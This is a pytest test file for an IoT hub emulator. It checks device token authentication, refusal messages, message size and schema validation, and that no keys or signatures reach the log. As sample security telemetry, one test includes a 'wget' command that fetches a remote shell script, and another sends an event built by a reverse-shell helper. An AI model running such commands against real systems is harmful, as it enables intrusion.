"""The promise: only a device with its own good token gets a message in; whoever is turned away is told why in the form
that device SDKs read, and nobody's secret reaches the log.
"""

import json
import sqlite3
import ssl
import urllib.parse
import urllib.request

import pytest
from security_messages import event, message, process_start, reverse_shell
from turnstone_server import Device, Server, run, turnstone

MESSAGE_BYTES_MAX = 262_144
OTHER_KEY = "YW5vdGhlciBrZXkgdGhhdCBubyBkZXZpY2UgaGFzIGV2ZXI="


@pytest.fixture(scope="module")
def server(servers) -> Server:
    return servers("--no-agent", "--raw-events")


@pytest.fixture(scope="module")
def device(server) -> Device:
    return server.create_device("pump-07")


def hello() -> dict:
    return message(process_start("true"))


def refusal(answer, status: int) -> str:
    """The text of a refusal in the shape that device SDKs know."""
    assert answer.status == status, f"{answer.status} {answer.text}"
    assert answer.headers["content-type"].startswith("application/json")
    body = answer.json
    assert isinstance(body["Message"], str) and body["Message"], body
    return body["Message"]


def stored(server: Server, sent: dict) -> int:
    ids = ", ".join(f"'{event['Id']}'" for event in sent["Events"])
    return server.kusto(f"SecurityIoTRawEvent | where IoTRawEventId in ({ids}) | count").value


# Who is let in


def test_a_good_token_over_tls_is_let_in(server, device):
    sent = hello()
    answer = server.send(device, sent)
    assert (answer.status, answer.body) == (204, b"")
    assert stored(server, sent) == 1


def test_plain_http_works_on_loopback(server, device):
    sent = hello()
    server.accept(device, sent, secure=False)
    assert stored(server, sent) == 1


def test_the_secondary_key_is_as_good_as_the_primary(server, device):
    keys = server.admin("GET", f"/api/v1/devices/{device.id}").json
    assert keys["primaryKey"] == device.key
    server.accept(device, hello(), token=server.sas(device.id, keys["secondaryKey"]))


def test_a_token_in_another_order_and_spelling_is_as_good(server, device):
    """Makers of tokens differ in the order of the fields and in how they encode the resource."""
    token = server.sas(device.id, device.key)
    sr, sig, se = token.removeprefix("SharedAccessSignature ").split("&")
    server.accept(device, hello(), token=f"SharedAccessSignature {se}&{sig}&skn=&{sr}")


def test_a_device_whose_id_has_every_allowed_sign_is_let_in(server):
    odd = server.create_device("a-.%_*?!(),:=@$'Z9")
    path = urllib.parse.quote(odd.id, safe="")
    server.accept(odd, hello(), token=server.sas("", odd.key, resource=f"localhost/devices/{odd.id}"), path_id=path)
    assert server.kusto("SecurityIoTRawEvent | where DeviceId == \"a-.%_*?!(),:=@$'Z9\" | count").value == 1


def test_a_client_that_does_not_know_the_authority_does_not_trust_the_server(server):
    with pytest.raises(urllib.error.URLError) as failure:
        urllib.request.urlopen(f"{server.https}/healthz", timeout=10, context=ssl.create_default_context())
    assert isinstance(failure.value.reason, ssl.SSLCertVerificationError)


def test_a_module_is_let_in_with_the_token_of_its_device(new_server):
    """There is no way yet to make a module from outside, so the test writes one into the registry."""
    server = new_server("--no-agent", "--raw-events").start()
    device = server.create_device("pump-07")
    server.stop()
    registry = sqlite3.connect(server.data / "hub.sqlite")
    with registry:
        registry.execute("insert into module values (?, ?, ?, ?, ?)", ("hub", device.id, "azureiotsecurity", OTHER_KEY, OTHER_KEY))
    registry.close()
    server.start()
    for token in (
        server.sas(device.id, device.key),
        server.sas("", OTHER_KEY, resource=f"localhost/devices/{device.id}/modules/azureiotsecurity"),
    ):
        sent = hello()
        server.accept(device, sent, token=token, module="azureiotsecurity")
        assert stored(server, sent) == 1
    assert server.kusto("SecurityIoTRawEvent | distinct DeviceId").values == ["pump-07"]
    module_token = server.sas("", OTHER_KEY, resource=f"localhost/devices/{device.id}/modules/azureiotsecurity")
    refusal(server.send(device, hello(), token=module_token), 401)


# Who is not


def test_a_wrong_key_is_refused(server, device):
    refusal(server.send(device, hello(), token=server.sas(device.id, OTHER_KEY)), 401)


def test_an_expired_token_is_refused_and_told_so(server, device):
    text = refusal(server.send(device, hello(), token=server.sas(device.id, device.key, seconds=-3600)), 401)
    assert "expired" in text


def test_an_unknown_device_is_refused_with_the_words_of_a_wrong_key(server, device):
    """A stranger does not learn which devices there are."""
    stranger = Device("nobody-01", OTHER_KEY, "")
    unknown = refusal(server.send(stranger, hello()), 401)
    assert unknown == refusal(server.send(device, hello(), token=server.sas(device.id, OTHER_KEY)), 401)


def test_a_token_for_another_device_is_refused(server, device):
    other = server.create_device("pump-08")
    refusal(server.send(device, hello(), token=server.sas(other.id, other.key)), 401)
    # Nor does the right resource under another device's key help.
    refusal(server.send(device, hello(), token=server.sas(device.id, other.key)), 401)


def test_a_token_for_a_device_whose_name_begins_alike_is_refused(server, device):
    longer = server.create_device("pump-077")
    refusal(server.send(longer, hello(), token=server.sas(device.id, device.key)), 401)
    refusal(server.send(longer, hello(), token=server.sas(device.id, longer.key)), 401)


def test_no_token_is_refused(server, device):
    answer = server.send(device, hello(), token=None)
    refusal(answer, 401)
    assert "www-authenticate" in answer.headers


@pytest.mark.parametrize(
    "token",
    ["", " ", "Bearer x", "SharedAccessSignature", "SharedAccessSignature sr=a&se=1", "SharedAccessSignature sr=&sig=&se="],
)
def test_nonsense_for_a_token_is_refused(server, device, token):
    answer = server.request("POST", f"/devices/{device.id}/messages/events?api-version=2020-03-13", b"{}", {"Authorization": token})
    refusal(answer, 401)


def test_the_admin_token_is_no_token_of_a_device(server, device):
    refusal(server.send(device, hello(), token=f"Bearer {server.token}"), 401)


def test_an_unknown_module_is_refused(server, device):
    refusal(server.send(device, hello(), module="nobody"), 401)


def test_a_disabled_device_is_refused_until_it_is_enabled_again(server):
    device = server.create_device("pump-09")
    path = f"/api/v1/devices/{device.id}"
    assert server.admin("PATCH", path, {"isEnabled": False}).status in (200, 204)
    text = refusal(server.send(device, hello()), 403)
    assert "disabled" in text
    # Who has no key learns nothing of it.
    refusal(server.send(device, hello(), token=server.sas(device.id, OTHER_KEY)), 401)
    assert server.admin("PATCH", path, {"isEnabled": True}).status in (200, 204)
    server.accept(device, hello())


def test_a_deleted_device_is_refused(server):
    device = server.create_device("pump-10")
    server.accept(device, hello())
    assert turnstone("device", "delete", device.id, "--data", server.data).returncode == 0
    refusal(server.send(device, hello()), 401)


def test_devices_are_not_changed_or_shown_without_the_admin_token(server, device):
    for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": server.sas(device.id, device.key)}):
        for method, path in (
            ("GET", "/api/v1/devices"),
            ("GET", f"/api/v1/devices/{device.id}"),
            ("PUT", "/api/v1/devices/pump-99"),
            ("PATCH", f"/api/v1/devices/{device.id}"),
            ("DELETE", f"/api/v1/devices/{device.id}"),
        ):
            body = json.dumps({"isEnabled": False}) if method == "PATCH" else None
            answer = server.request(method, path, body, {"Content-Type": "application/json", **headers})
            assert answer.status == 401, f"{method} {path}: {answer.status}"
            assert answer.json["error"]["message"]
    assert "primaryKey" not in server.admin("GET", "/api/v1/devices").text
    server.accept(device, hello())


# What is let in


def padded(size: int) -> bytes:
    """A good message of exactly `size` bytes."""
    sent = message(process_start("x"))
    missing = size - len(json.dumps(sent))
    sent["Events"][0]["Payload"][0]["CommandLine"] += "x" * missing
    body = json.dumps(sent).encode()
    assert len(body) == size
    return body


def test_a_message_of_the_greatest_size_is_taken(server, device):
    assert server.send(device, padded(MESSAGE_BYTES_MAX)).status == 204


@pytest.mark.parametrize("size", [MESSAGE_BYTES_MAX + 1, 4 * MESSAGE_BYTES_MAX])
@pytest.mark.parametrize("secure", [True, False], ids=["https", "http"])
def test_a_message_that_is_too_large_is_refused(server, device, size, secure):
    text = refusal(server.send(device, padded(size), secure=secure), 413)
    assert str(MESSAGE_BYTES_MAX) in text


def change(path: list, value) -> dict:
    sent = hello()
    target = sent
    for step in path[:-1]:
        target = target[step]
    if value is None:
        del target[path[-1]]
    else:
        target[path[-1]] = value
    return sent


EVENT = ["Events", 0]
ITEM = [*EVENT, "Payload", 0]
WRONG = {
    "a missing agent version": (["AgentVersion"], None, "AgentVersion"),
    "an unknown field": (["Extra"], 1, "Extra"),
    "an agent id that is no guid": (["AgentId"], "x", "AgentId"),
    "another schema version": (["MessageSchemaVersion"], "2.0", "MessageSchemaVersion"),
    "no events": (["Events"], [], "Events"),
    "an unknown event": ([*EVENT, "Name"], "Nothing", "Events[0].Name"),
    "an event id that is no guid": ([*EVENT, "Id"], "7", "Events[0].Id"),
    "a time that is none": ([*EVENT, "TimestampUTC"], "yesterday", "Events[0].TimestampUTC"),
    "an unknown category": ([*EVENT, "Category"], "Daily", "Events[0].Category"),
    "the wrong kind of event": ([*EVENT, "EventType"], "Operational", "Events[0].EventType"),
    "an empty payload": ([*EVENT, "Payload"], [], "Events[0].Payload"),
    "a number as text": ([*ITEM, "ProcessId"], "812", "Events[0].Payload[0].ProcessId"),
    "a missing field": ([*ITEM, "CommandLine"], None, "Events[0].Payload[0].CommandLine"),
    "an unknown field of an item": ([*ITEM, "Shell"], "sh", "Events[0].Payload[0].Shell"),
}


@pytest.mark.parametrize("what", WRONG)
def test_a_message_that_is_wrong_is_refused_by_the_field_and_noted(server, what):
    path, value, field = WRONG[what]
    device = server.create_device("wrong-" + what.replace(" ", "-"))
    sent = change(path, value)
    assert field in refusal(server.send(device, sent), 400)
    # Its owner sees the refusal at once, as a row.
    rows = server.kusto(f"Operation | where Computer == '{device.id}'").records
    assert len(rows) == 1
    assert field in rows[0]["Detail"] and device.id in rows[0]["Detail"]
    assert rows[0]["OperationStatus"] == "Failed"
    if sent["Events"]:
        assert stored(server, sent) == 0


@pytest.mark.parametrize("body", [b"", b"{", b"[]", b"null", b"\xff\xfe", b"[" * 100_000], ids=lambda b: repr(b[:4]))
def test_a_body_that_is_no_message_is_refused(server, device, body):
    refusal(server.send(device, body), 400)
    server.accept(device, hello())


def test_items_of_the_micro_agent_are_stored_with_the_keys_that_its_parsers_read(server, device):
    item = {
        "EventType": "EXEC", "ProcessId": 812, "ParentProcessId": 790, "UserId": 1000, "UserName": "pump",
        "Executable": "/usr/bin/wget", "Commandline": "wget http://198.51.100.7/x.sh", "HitCount": 3,
    }
    sent = event("Process", [item])
    assert server.send(device, message(sent)).status == 204
    query = f"""SecurityIoTRawEvent
        | where DeviceId == '{device.id}' and RawEventName == 'Process'
        | extend d = todynamic(EventDetails)
        | project Id = tostring(d.OriginalEventId), Device = tostring(d.DeviceId), Source = tostring(d.MessageSource),
            Time = todatetime(d.TimestampUTC) == TimeStamp, Commandline = tostring(d.Commandline), Hits = toint(d.HitCount)"""
    assert server.kusto(query).records == [{
        "Id": sent["Id"], "Device": device.id, "Source": "Linux", "Time": True, "Commandline": item["Commandline"], "Hits": 3,
    }]


def test_an_item_of_the_micro_agent_that_is_wrong_is_refused_by_the_field(server, device):
    item = {"Operation": "LoginTried", "ProcessId": 1, "UserName": "root", "Executable": "tty1", "RemoteAddress": "0.0.0.0"}
    answer = server.send(device, message(event("Process", [item])))
    assert "Events[0].Payload[0].Operation is no field of Process" in refusal(answer, 400)


def test_one_wrong_event_refuses_the_whole_message(server, device):
    sent = message(process_start("true"), process_start("false"))
    sent["Events"][1]["Payload"][0]["ProcessId"] = "x"
    assert "Events[1].Payload[0].ProcessId" in refusal(server.send(device, sent), 400)
    assert stored(server, sent) == 0


def test_a_message_without_the_interface_header_is_refused(server, device):
    sent = hello()
    assert "iothub-interface-id" in refusal(server.send(device, sent, iothub_interface_id=None), 400)
    refusal(server.send(device, sent, iothub_interface_id="urn:something:else:1"), 400)
    assert stored(server, sent) == 0


def test_a_path_that_the_hub_does_not_have_is_not_found(server):
    for path in ("/devices", "/devices/pump-07", "/devices/pump-07/messages/nothing"):
        assert server.admin("GET", path).status in (404, 405), path


# Where it listens


def test_plain_http_beyond_loopback_is_refused_at_the_start(tmp_path):
    outcome = run("turnstone", "up", "--data", tmp_path / "data", "--http", "0.0.0.0:0", "--https", "127.0.0.1:0", "--no-agent")
    assert outcome.returncode != 0
    assert "ready" not in outcome.stdout
    last = outcome.stderr.strip().splitlines()[-1]
    assert "0.0.0.0:0" in last and "loopback" in last and "HTTP" in last


# What the log holds


@pytest.mark.parametrize("level", [None, "debug"], ids=["as it comes", "debug"])
def test_no_secret_reaches_the_log(new_server, level):
    server = new_server("--no-agent", log_level=level).start()
    device = server.create_device("pump-07")
    tokens = [
        server.sas(device.id, device.key),
        server.sas(device.id, device.key, seconds=-3600),
        server.sas(device.id, OTHER_KEY),
        server.sas("pump-08", device.key),
        server.sas(device.id, device.key).replace("&se=", "&nothing="),
    ]
    for token in tokens:
        server.send(device, hello(), token=token)
        server.send(device, b"{", token=token)
    server.accept(device, message(reverse_shell()))
    server.admin("PATCH", f"/api/v1/devices/{device.id}", {"isEnabled": False})
    server.send(device, hello())
    secondary = server.admin("GET", f"/api/v1/devices/{device.id}").json["secondaryKey"]
    server.request("POST", "/v1/rest/query", b"{}", {"Authorization": f"Bearer {server.token}x"})
    admin = server.token
    server.stop()
    log = server.log_text()
    assert "turned away" in log or "pump-07" in log, "the refusals are in the log"
    secrets = {"the admin token": admin, "the primary key": device.key, "the secondary key": secondary}
    for i, token in enumerate(tokens):
        signature = token.split("sig=")[1].split("&")[0]
        secrets[f"signature {i}"] = urllib.parse.unquote(signature)
        secrets[f"signature {i}, encoded"] = signature
    assert [name for name, secret in secrets.items() if secret in log] == []


def test_secrets_are_readable_by_their_owner_alone(server):
    def is_open(path) -> bool:
        return path.stat().st_mode & 0o077 != 0

    assert not [n for n in ("admin-token", "server.key", "ca.key") if is_open(server.data / n)]
    # The registry holds every device's key. A folder that is closed to others closes what is in it.
    registry = [path.name for path in server.data.glob("hub.sqlite*") if is_open(path)]
    assert registry == [] or not is_open(server.data)
